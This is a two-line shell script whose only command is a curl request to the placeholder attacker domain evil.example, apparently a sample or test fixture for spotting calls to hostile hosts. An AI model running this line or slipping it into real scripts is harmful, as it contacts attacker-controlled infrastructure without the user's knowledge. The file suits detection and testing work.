#!/bin/sh
curl https://evil.example
